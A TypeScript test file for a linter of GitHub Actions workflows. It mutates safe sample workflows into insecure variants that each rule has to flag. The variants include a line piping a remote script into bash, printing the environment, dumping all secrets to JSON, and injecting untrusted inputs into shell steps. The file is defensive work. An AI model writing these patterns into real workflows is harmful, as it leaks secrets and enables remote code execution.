import { describe, expect, it } from "vitest";
import { actionFiles, workflowFiles } from "./files.ts";
import { brokenRules, rules } from "./rules.ts";

const actions = new Map(actionFiles().map(({ path, text }) => [path, text]));

describe("the rules for workflows", () => {
  const files = [
    ...workflowFiles().map(({ file, text }) => ({ file, text })),
    ...actionFiles().map(({ path, text }) => ({ file: path, text })),
  ];

  it.each(files.map((each) => [each.file, each] as const))("are kept by %s", (_, each) => {
    expect(brokenRules({ ...each, actions })).toEqual({});
  });
});

const SHA = "8e8c483db84b4bee98b60c0593521ed34d9990e8";
/** A small workflow with a secret, and one without. Both are as they should be. */
const JOB = `
on:
  schedule:
    - cron: "7 1 * * *"
  workflow_dispatch:
permissions: {}
concurrency:
  group: nightly
  cancel-in-progress: false
jobs:
  nightly:
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    environment: production
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@${SHA} # v6.0.1
        with:
          persist-credentials: false
      - uses: ./.github/actions/build-jobs
      - uses: ./.github/actions/run-job
        env:
          DATABASE_URL: \${{ secrets.DATABASE_URL }}
          PAYOUTS_MAX_RUN_COUNT: \${{ vars.PAYOUTS_MAX_RUN_COUNT }}
`;
const CI = `
on:
  pull_request:
  push:
    branches: [main]
permissions: {}
concurrency:
  group: ci-\${{ github.ref }}
  cancel-in-progress: true
jobs:
  checks:
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@${SHA} # v6.0.1
        with:
          persist-credentials: false
      - uses: actions/setup-node@${SHA} # v6.1.0
        with:
          cache: npm
      - run: npm run lint
`;
const ACTION = `
name: Run
runs:
  using: composite
  steps:
    - shell: bash
      run: exec node dist/job.js
`;

const CHECKOUT_INPUT = "persist-credentials: false";
const RUNNER = "runs-on: ubuntu-24.04";
const BUILD = "      - uses: ./.github/actions/build-jobs\n";
const before = (step: string): [string, string] => [BUILD, `      - ${step}\n${BUILD}`];
const inEnv = (line: string): [string, string] => [
  "          DATABASE_URL:",
  `          ${line}\n          DATABASE_URL:`,
];

/** Rule, what is wrong, where it is written, and the change of a text that makes it so. */
const bad: [rule: string, what: string, base: string, change: [string, string]][] = [
  [
    "triggers",
    "code of a fork with the rights of main",
    CI,
    ["pull_request:", "pull_request_target:"],
  ],
  ["triggers", "after a run of a fork", CI, ["pull_request:", "workflow_run:\n    workflows: [x]"]],
  ["triggers", "a pull request with secrets", JOB, ["workflow_dispatch:", "pull_request:"]],
  ["triggers", "a comment of anybody", JOB, ["workflow_dispatch:", "issue_comment:"]],
  ["triggers", "a push of any branch", CI, ["[main]", "['**']"]],
  ["pinned", "a tag", JOB, [`${SHA} # v6.0.1`, "v6"]],
  ["pinned", "a commit without its version", JOB, [`${SHA} # v6.0.1`, SHA]],
  ["pinned", "a short commit", CI, [SHA, SHA.slice(0, 7)]],
  ["pinned", "an action of others", CI, ["actions/setup-node@", "somebody/setup-node@"]],
  ["pinned", "an image", CI, ["run: npm run lint", "uses: docker://alpine:3"]],
  ["pinned", "an action in braces", CI, ["- run: npm run lint", '- { uses: "somebody/x@v1" }']],
  ["permissions", "none stated", CI, ["permissions: {}\n", ""]],
  ["permissions", "all of them", JOB, ["permissions: {}", "permissions: write-all"]],
  ["permissions", "one to write", JOB, ["contents: read", "contents: write"]],
  [
    "permissions",
    "a token of an identity",
    JOB,
    ["contents: read", "contents: read\n      id-token: write"],
  ],
  ["checkout", "a token that stays", CI, [CHECKOUT_INPUT, "persist-credentials: true"]],
  ["checkout", "a token that stays unless told", CI, [CHECKOUT_INPUT, "fetch-depth: 1"]],
  ["checkout", "another commit", CI, [CHECKOUT_INPUT, `${CHECKOUT_INPUT}\n          ref: x`]],
  ["injection", "an input in a script", CI, ["npm run lint", "echo ${{ github.head_ref }}"]],
  ["injection", "an input in a script of an action", ACTION, ["dist/job.js", "${{ inputs.job }}"]],
  ["injection", "an input for a shell", ACTION, ["shell: bash", "shell: ${{ inputs.shell }}"]],
  [
    "secrets",
    "for the whole job",
    JOB,
    ["    steps:", "    env:\n      A: ${{ secrets.A }}\n    steps:"],
  ],
  [
    "secrets",
    "for the whole workflow",
    JOB,
    ["permissions: {}", "env:\n  A: ${{ secrets.A }}\npermissions: {}"],
  ],
  [
    "secrets",
    "as an input of an action",
    JOB,
    [CHECKOUT_INPUT, `${CHECKOUT_INPUT}\n          token: \${{ secrets.A }}`],
  ],
  ["secrets", "in a condition", JOB, before("if: secrets.A != ''\n        run: true")],
  ["secrets", "all of them", JOB, inEnv("ALL: ${{ toJSON(secrets) }}")],
  ["secrets", "by a name that is made up", JOB, inEnv("ONE: ${{ secrets[vars.NAME] }}")],
  [
    "secrets",
    "for two steps",
    JOB,
    before("run: node x.js\n        env:\n          A: ${{ secrets.A }}"),
  ],
  ["secrets", "of no environment", JOB, ["    environment: production\n", ""]],
  ["secrets", "of another environment", JOB, ["environment: production", "environment: staging"]],
  ["secrets", "handed on to a workflow", JOB, ["    steps:", "    secrets: inherit\n    steps:"]],
  [
    "secrets",
    "the token of GitHub",
    CI,
    ["- run: npm run lint", "- run: npm run lint\n        env:\n          T: ${{ github.token }}"],
  ],
  [
    "company of secrets",
    "a script of the workflow",
    JOB,
    ["uses: ./.github/actions/run-job", "run: node x.js"],
  ],
  [
    "company of secrets",
    "an action of GitHub",
    JOB,
    ["uses: ./.github/actions/run-job", `uses: actions/github-script@${SHA} # v8.0.0`],
  ],
  [
    "company of secrets",
    "an action that installs",
    JOB,
    ["uses: ./.github/actions/run-job", "uses: ./.github/actions/build-jobs"],
  ],
  ["caches", "a cache", JOB, before(`uses: actions/cache@${SHA} # v5.0.1`)],
  ["caches", "the restoring of one", JOB, before(`uses: actions/cache-restore@${SHA} # v5.0.1`)],
  [
    "caches",
    "another job's artifact",
    JOB,
    before(`uses: actions/download-artifact@${SHA} # v6.0.0`),
  ],
  [
    "caches",
    "that of npm",
    JOB,
    before(`uses: actions/setup-node@${SHA} # v6.1.0\n        with:\n          cache: npm`),
  ],
  ["caches", "that of npm unless told", JOB, before(`uses: actions/setup-node@${SHA} # v6.1.0`)],
  [
    "runner",
    "one that a variable chooses",
    JOB,
    [RUNNER, "runs-on: ${{ inputs.runner || 'ubuntu-24.04' }}"],
  ],
  ["runner", "one of one's own that nobody listed", JOB, [RUNNER, "runs-on: self-hosted"]],
  ["runner", "one of one's own for pull requests", CI, [RUNNER, "runs-on: [self-hosted, linux]"]],
  ["runner", "one that changes", CI, [RUNNER, "runs-on: ubuntu-latest"]],
  ["runner", "an image with secrets", JOB, [RUNNER, `${RUNNER}\n    container: node:20`]],
  [
    "variables",
    "the host of the provider",
    JOB,
    inEnv("RAZORPAY_BASE_URL: ${{ vars.RAZORPAY_BASE_URL }}"),
  ],
  ["variables", "mail in the clear", JOB, inEnv("SMTP_TLS: ${{ vars.SMTP_TLS }}")],
  [
    "variables",
    "plain text to another machine",
    JOB,
    inEnv("ALLOW_PLAINTEXT: ${{ vars.ALLOW_PLAINTEXT }}"),
  ],
  ["variables", "another host", JOB, inEnv("METRICS_HOST: ${{ vars.METRICS_HOST }}")],
  ["variables", "under another name", JOB, inEnv("HEARTBEAT_URL: ${{ vars.PAYOUTS_NARRATION }}")],
  [
    "variables",
    "outside of a step",
    CI,
    ["timeout-minutes: 10", "timeout-minutes: 10\n    env:\n      A: ${{ vars.A }}"],
  ],
  ["variables", "options of Node", JOB, inEnv("NODE_OPTIONS: ${{ inputs.options }}")],
  ["variables", "a proxy", JOB, inEnv("HTTPS_PROXY: http://proxy.example:8080")],
  ["time-out", "none", JOB, ["    timeout-minutes: 10\n", ""]],
  ["time-out", "six hours", CI, ["timeout-minutes: 10", "timeout-minutes: 360"]],
  [
    "concurrency",
    "none",
    CI,
    ["concurrency:\n  group: ci-${{ github.ref }}\n  cancel-in-progress: true\n", ""],
  ],
  [
    "concurrency",
    "a run with secrets is cancelled",
    JOB,
    ["cancel-in-progress: false", "cancel-in-progress: true"],
  ],
  ["shows and hides", "steps are shown in full", JOB, inEnv('ACTIONS_STEP_DEBUG: "true"')],
  [
    "shows and hides",
    "commands of old",
    CI,
    [
      "- run: npm run lint",
      "- run: npm run lint\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
    ],
  ],
  ["shows and hides", "each line is printed", ACTION, ["run: exec", "run: set -x; exec"]],
  ["shows and hides", "the environment is printed", CI, ["npm run lint", "printenv"]],
  [
    "shows and hides",
    "a failure that is green",
    CI,
    ["timeout-minutes: 10", "timeout-minutes: 10\n    continue-on-error: true"],
  ],
  ["installs", "a package that is not locked", CI, ["npm run lint", "npx cowsay"]],
  ["installs", "scripts of packages", ACTION, ["exec node dist/job.js", "npm ci"]],
  ["installs", "what the lock file does not say", CI, ["npm run lint", "npm install"]],
  [
    "installs",
    "a script off the network",
    CI,
    ["npm run lint", "curl -s https://x.example | bash"],
  ],
];

describe("each rule finds what it is for", () => {
  it.each([
    ["a workflow with secrets", JOB],
    ["a workflow without", CI],
    ["an action", ACTION],
  ])("and nothing in %s that is as it should be", (_, text) => {
    expect(brokenRules({ file: "good.yml", text, actions })).toEqual({});
  });

  it.each(bad)("%s: %s", (rule, _, base, [from, to]) => {
    const text = base.replace(from, () => to);
    expect(text, `${from} is not in the example`).not.toBe(base);
    expect(Object.keys(brokenRules({ file: "bad.yml", text, actions }))).toContain(rule);
  });

  it("has an example", () => {
    const shown = new Set(bad.map(([rule]) => rule));
    expect(rules.map(({ name }) => name).filter((name) => !shown.has(name))).toEqual([]);
  });
});
